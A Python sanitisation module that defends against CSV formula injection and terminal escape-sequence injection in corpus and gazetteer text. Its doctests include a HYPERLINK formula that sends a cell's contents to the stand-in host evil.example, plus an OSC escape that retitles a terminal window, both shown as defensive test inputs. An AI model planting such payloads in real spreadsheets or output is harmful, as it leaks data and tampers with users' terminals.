"""Making user text safe for the places it is written to.

Corpus and gazetteer text is untrusted: a heading can hold a spreadsheet
formula, a place name a terminal escape sequence, a file name a newline. Every
writer of CSV goes through :func:`csv_writer`, every terminal line through
:func:`terminal_text`; the two rules live here once.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

__all__ = ["csv_cell", "csv_writer", "terminal_text", "json_text"]

# OWASP's CSV injection rule: a cell that starts with one of these is a
# formula (or becomes one) in Excel, LibreOffice or Google Sheets. The
# full-width forms are read as formulas by some spreadsheets too.
_FORMULA_START = tuple("=+-@\t\r\n") + tuple("\uff1d\uff0b\uff0d\uff20")


def csv_cell(value: Any) -> Any:
    """A value made safe for a CSV cell: text that a spreadsheet would run as
    a formula gets a leading apostrophe (shown, never evaluated); numbers and
    other values are unchanged.

    >>> csv_cell('=HYPERLINK("http://evil.example/?"&A1,"Tabriz")')
    '\\'=HYPERLINK("http://evil.example/?"&A1,"Tabriz")'
    >>> csv_cell("-5.3"), csv_cell(-5.3), csv_cell("Tabriz")
    ("'-5.3", -5.3, 'Tabriz')
    """
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


class _SafeWriter:
    """A :func:`csv.writer` whose every cell passes :func:`csv_cell`."""

    def __init__(self, stream: TextIO, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: TextIO, **kwargs) -> _SafeWriter:
    """``csv.writer(stream, **kwargs)`` with formula injection neutralised.
    The only way the project writes CSV."""
    kwargs.setdefault("lineterminator", "\n")
    return _SafeWriter(stream, **kwargs)


# C0 controls (ESC, BEL, CR, backspace …), DEL, C1 controls (U+0080–U+009F,
# which include the 8-bit CSI and OSC), and lone surrogates (bytes of a file
# name that were not UTF-8).
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff]")
_CONTROL_NL = re.compile("[\x00-\x1f\x7f-\x9f\ud800-\udfff]")
_NAMED = {"\n": "\\n", "\r": "\\r", "\t": "\\t", "\x1b": "\\e"}


def _escape(match: re.Match) -> str:
    ch = match.group()
    if ch in _NAMED:
        return _NAMED[ch]
    code = ord(ch)
    if 0xDC80 <= code <= 0xDCFF:  # a byte that was not UTF-8 (surrogateescape)
        return f"\\x{code - 0xDC00:02x}"
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def terminal_text(text: str, *, one_line: bool = False) -> str:
    """Text with every control character shown as an escape (``\\e``,
    ``\\x07``, ``\\x9b``), so nothing a document or file name holds can move
    the cursor, retitle the window or write the clipboard. With
    ``one_line=True`` newlines and tabs are escaped too, so a file name cannot
    start a line of its own.

    >>> terminal_text("Tabriz\\x1b]0;HACKED\\x07")
    'Tabriz\\\\e]0;HACKED\\\\x07'
    >>> terminal_text("a\\nb"), terminal_text("a\\nb", one_line=True)
    ('a\\nb', 'a\\\\nb')
    """
    return (_CONTROL_NL if one_line else _CONTROL).sub(_escape, text)


_JSON_UNSAFE = re.compile("[\x7f-\x9f\u2028\u2029\ud800-\udfff]")


def json_text(text: str) -> str:
    """JSON produced with ``ensure_ascii=False`` made safe for a terminal and
    for JavaScript: DEL, C1 controls, line separators and lone surrogates
    become ``\\uXXXX`` escapes (json already escapes the C0 ones)."""
    return _JSON_UNSAFE.sub(lambda m: f"\\u{ord(m.group()):04x}", text)
